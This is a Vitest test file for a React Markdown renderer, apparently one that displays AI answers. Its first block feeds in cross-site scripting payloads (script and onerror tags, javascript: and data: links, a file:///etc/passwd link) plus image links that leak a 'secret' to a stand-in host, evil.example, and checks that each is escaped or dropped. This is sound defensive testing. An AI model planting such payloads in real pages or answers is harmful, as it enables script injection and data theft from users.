/// <reference path="../../../renderer/css.d.ts" />
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { createFakeBridge } from '../../../renderer/bridge/fake-bridge.ts';
import { createApp } from '../../../renderer/state/app.ts';
import { AppProvider } from '../../../renderer/state/use-app.ts';
import { Markdown } from '../../../renderer/views/markdown/markdown.tsx';

const app = createApp({ bridge: createFakeBridge().bridge, painted: (done) => done() });

function html(text: string): string {
  return renderToStaticMarkup(
    <AppProvider value={app}>
      <Markdown text={text} />
    </AppProvider>,
  );
}

describe('what a hostile answer can do', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<iframe src="https://evil.example"></iframe>',
    'text <b onclick="x()">bold</b> text',
    '<svg><style>@import url(https://evil.example)</style></svg>',
    '<details open ontoggle=alert(1)>\n\n# x\n\n</details>',
  ])('raw HTML is text: %s', (text) => {
    const made = html(text);
    expect(made).not.toMatch(/<(img|script|iframe|b|svg|style|details)\b/);
    expect(made).toContain('&lt;');
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](smb://host/share)',
    '[x](//evil.example/x)',
    '[x](/relative)',
    '[x](https://user:pw@evil.example/)',
    '[x]\n\n[x]: javascript:alert(1)',
    '<javascript:alert(1)>',
  ])('is no link: %s', (text) => {
    expect(html(text)).not.toMatch(/href=/);
  });

  it.each([
    '![alt](https://evil.example/leak?q=secret)',
    '![alt][r]\n\n[r]: https://evil.example/leak?q=secret',
    '[![alt](https://evil.example/leak?q=secret)](https://good.example)',
  ])('a remote image is never an image, and its host is shown: %s', (text) => {
    const made = html(text);
    expect(made).not.toMatch(/<img|srcset|<link|preload|background/);
    expect(made).toContain('evil.example');
  });

  it('an image inside the answer is not loaded either', () => {
    expect(html('![x](data:image/svg+xml,<svg/>)')).not.toMatch(/src=|data:/);
  });

  it('nesting deeper than a stack is shown, not followed', () => {
    expect(html(`${'> '.repeat(400)}deep`)).toContain('deep');
    expect(html(`${'*a '.repeat(300)}x`)).toContain('x');
  });
});

describe('what an answer shows', () => {
  it('keeps where links lead', () => {
    expect(html('[docs](https://example.org/a?b=1)')).toContain('title="https://example.org/a?b=1"');
    expect(html('see https://example.org/x.')).toContain('href="https://example.org/x"');
    expect(html('[m](mailto:a@example.org)')).toContain('href="mailto:a@example.org"');
  });

  it('each block has the offsets of its source', () => {
    const text = '# Title\n\nA paragraph.\n\n- one\n- two\n\n```js\nx\n```\n\n| a |\n|---|\n| b |\n\n> quote\n\n---\n';
    const ranges = [...html(text).matchAll(/data-source-start="(\d+)" data-source-end="(\d+)"/g)].map(
      ([, start, end]) => text.slice(Number(start), Number(end)),
    );
    expect(ranges).toEqual([
      '# Title',
      'A paragraph.',
      '- one\n- two',
      '- one',
      '- two',
      '```js\nx\n```',
      '| a |\n|---|\n| b |',
      '> quote',
      'quote',
      '---',
    ]);
  });

  it('code has its language and is not read as markup', () => {
    const made = html('```html\n<b>x</b>\n```');
    expect(made).toContain('html');
    expect(made).toContain('&lt;b&gt;x&lt;/b&gt;');
    expect(made).toContain('Copy code');
  });

  it('task lists say what is done', () => {
    const made = html('- [x] a\n- [ ] b');
    expect(made).toContain('aria-label="done"');
    expect(made).toContain('aria-label="open"');
  });

  it('footnotes are numbered by their first reference and lead back', () => {
    const made = html('a[^z] b[^y]\n\n[^y]: second\n\n[^z]: first');
    expect(made.indexOf('first')).toBeLessThan(made.indexOf('second'));
    expect(made).toContain('Footnote 1');
    expect(made).toContain('Back to reference 2');
  });

  it('a reference whose definition is not there is shown as written', () => {
    expect(html('see [this][nowhere]')).toContain('[this][nowhere]');
  });

  it('paragraphs take the direction of their words', () => {
    expect(html('שלום')).toContain('dir="auto"');
  });
});
